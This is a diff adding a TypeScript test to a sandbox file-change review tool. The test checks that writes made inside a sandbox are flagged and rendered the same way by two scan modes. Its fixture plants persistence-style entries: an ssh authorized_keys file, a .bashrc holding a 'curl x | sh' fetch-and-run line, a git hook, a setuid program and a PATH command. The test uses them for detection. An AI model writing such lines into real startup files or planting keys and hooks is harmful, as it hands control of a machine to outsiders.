@@ -3,13 +3,14 @@
 // tree with every kind of hostile entry.
 import { test } from 'uvu';
 import * as assert from 'uvu/assert';
-import { mkdirSync, symlinkSync, writeFileSync, linkSync } from 'node:fs';
+import { mkdirSync, symlinkSync, writeFileSync, linkSync, truncateSync } from 'node:fs';
 import { join } from 'node:path';
 import { makeFixture, whiteout, opaque, setXattr, copyUp, write, type Fixture } from './changes-fixture.js';
 import { scanSandbox, scanSandboxAsync } from '../../sandbox-core/changes/scan.js';
 import { decodeAnswer, scanAnswer, walkUppers, type UpperEntry, type WalkOptions } from '../../sandbox-core/changes/walk.js';
 import type { Change, EntryStat } from '../../sandbox-core/changes/types.js';
-import { renderDiffs, renderStat, writeNameOnly } from '../../cli/render-changes.js';
+import { renderDiffs, renderStat, renderSummary, countLine, writeDiffs, summaryPlan, writeNameOnly } from '../../cli/render-changes.js';
+import pc from 'picocolors';
 import { structuredPatch } from 'diff';
 import { display, isPlainBytes } from '../../sandbox-core/changes/bpath.js';
 
@@ -255,6 +256,80 @@ test('sbx diff\'s diffs: a modified file through jsdiff, new files without it, i
   assert.ok(text.includes(`diff ${display(join(f.host, 'noeol'))} (added)\n--- /dev/null\n+++ b${display(join(f.host, 'noeol'))}\n@@ -0,0 +1,2 @@\n+a\n+b\n\\ No newline at end of file\n`));
   assert.ok(text.includes(`Binary file: - → 4 B`), text.slice(0, 2000));
   assert.is(text.split('\ndiff ').length, changes.filter((c) => c.type === 'file' && c.change !== 'metadata').length);
+});
+
+test('the full review (summary and diffs) of a scan with new files as columns is the object scan\'s, byte for byte', async () => {
+  hostileTree();
+  const u = f.upper();
+  // Existing host dirs (new files there stand alone) and new dirs (their files are grouped).
+  write(join(f.host, 'home/u/keep'), 'k\n');
+  mkdirSync(join(u, 'home/u'), { recursive: true });
+  // Flagged: ssh keys, an rc file, a git hook, a setuid program, a command in PATH; a
+  // world-writable PATH dir; a hard link; an ACL (an xattr: an object, not a column).
+  write(join(u, 'home/u/.ssh/authorized_keys'), 'ssh-ed25519 AAAA\n');
+  write(join(u, 'home/u/.bashrc'), 'curl x | sh\n');
+  write(join(u, 'proj/.git/hooks/post-checkout'), '#!/bin/sh\n', 0o755);
+  write(join(u, 'tools/suid'), 'x\n', 0o4755);
+  write(join(u, 'pbin/cmd'), '#!/bin/sh\necho\n', 0o755);
+  setXattr(join(u, 'tools/suid'), 'user.note', 'n');
+  write(join(u, 'acl/file'), 'acl\n');
+  // Folded: an npm cache below a new dir and one below an existing dir.
+  for (let i = 0; i < 5; i++) write(join(u, `home/u/.npm/_cacache/content-v2/x${i}`), `cache ${i}\n`);
+  for (let i = 0; i < 3; i++) write(join(u, `pkg/.npm/_logs/l${i}`), `log ${i}\n`);
+  // Content: control characters and a backslash in lines, CR, non-UTF-8 text (binary), an
+  // empty file, more lines than a diff shows, larger than the cap (sparse and not).
+  write(join(u, 'txt/ctl'), 'plain\nesc \x1b[31mred\ttab\r\nback\\slash\nbidi \u202e here\nünï\n');
+  write(join(u, 'txt/latin1'), Buffer.from([0x61, 0xe9, 0x0a]));
+  write(join(u, 'txt/empty'), '');
+  write(join(u, 'txt/long'), Array.from({ length: 2500 }, (_, i) => `line ${i}`).join('\n'));
+  write(join(u, 'txt/exact'), Array.from({ length: 1998 }, (_, i) => `l${i}`).join('\n'));
+  write(join(u, 'txt/big'), Buffer.alloc((1 << 20) + 1, 0x61));
+  write(join(u, 'txt/sparse'), '');
+  truncateSync(join(u, 'txt/sparse'), 3 * 2 ** 30);
+  const path0 = process.env.PATH;
+  process.env.PATH = `${path0}:${join(f.host, 'pbin')}`;
+  try {
+    const objects = await scanSandboxAsync(f.meta, { readNewUpTo: 1 << 20 });
+    const columns = await scanSandboxAsync(f.meta, { readNewUpTo: 1 << 20, columns: true });
+    assert.ok(columns.named!.length > 300, `${columns.named!.length} new files as columns`);
+    assert.ok(columns.changes.length < objects.changes.length - 300);
+    assert.equal(columns.errors, objects.errors);
+    assert.is(columns.layerBytes, objects.layerBytes);
+    assert.equal(allPaths(columns), objects.changes.map((c) => c.path));
+    // Every column entry makes the Change the object scan made (stat fields it read aside).
+    const byPath = new Map(objects.changes.map((c) => [c.path, c]));
+    for (let j = 0; j < columns.named!.length; j++) {
+      const c = columns.named!.changeAt(j);
+      const o = byPath.get(c.path)!;
+      assert.equal({ ...c, up: undefined, newText: c.newText?.toString('hex') }, { ...o, up: undefined, newText: o.newText?.toString('hex') }, display(c.path));
+      for (const k of ['type', 'perm', 'size', 'blocks', 'nlink'] as const) assert.is(c.up![k], o.up![k], `${display(c.path)} ${k}`);
+    }
+    for (const col of [pc.createColors(false), pc.createColors(true)]) {
+      for (const opts of [{}, { expand: true }, { limit: 3 }]) {
+        const want = countLine(objects.changes) + renderSummary(objects.changes, col, opts);
+        assert.is(countLine(columns.changes, columns.named) + renderSummary(columns.changes, col, opts, columns.named), want);
+      }
+      const want = await renderDiffs(objects.changes, col);
+      assert.is(await renderDiffs(columns.changes, col, columns.named), want);
+      // In pieces to a slow writer: the same bytes.
+      const pieces: Buffer[] = [];
+      await writeDiffs(columns.changes, col, async (b) => { await new Promise((r) => setTimeout(r, 1)); pieces.push(b); }, columns.named);
+      assert.is(Buffer.concat(pieces).toString('utf8'), want);
+    }
+    const plainCol = pc.createColors(false);
+    const summary = renderSummary(columns.changes, plainCol, {}, columns.named);
+    for (const flagged of ['.ssh/authorized_keys', '.bashrc', 'post-checkout', 'tools/suid', 'pbin/cmd']) assert.match(summary, new RegExp(`! added: .*${flagged.replace(/[.]/g, '\\.')}.*\\[! `), flagged);
+    assert.match(summary, /in npm cache.*folded/);
+    const diffs = await renderDiffs(columns.changes, plainCol, columns.named);
+    assert.ok(diffs.includes('+esc \\x1b[31mred\\ttab\\r\n'), 'control characters escaped');
+    assert.ok(diffs.includes('… diff cut after 2000 lines (+2500 -0 in all)'));
+    assert.ok(diffs.includes('Large file: - → 3.0 GiB (0 B allocated)'), diffs.slice(diffs.indexOf('sparse') - 100, diffs.indexOf('sparse') + 200));
+    // What the review picks by line: the same host paths for every item.
+    const pick = (p: ReturnType<typeof summaryPlan>) => p.kinds.map((k) => k.items.map((it) => [it.label, it.paths()]));
+    assert.equal(pick(summaryPlan(columns.changes, plainCol, {}, columns.named)), pick(summaryPlan(objects.changes, plainCol, {})));
+  } finally {
+    process.env.PATH = path0;
+  }
 });
 
 test.run();
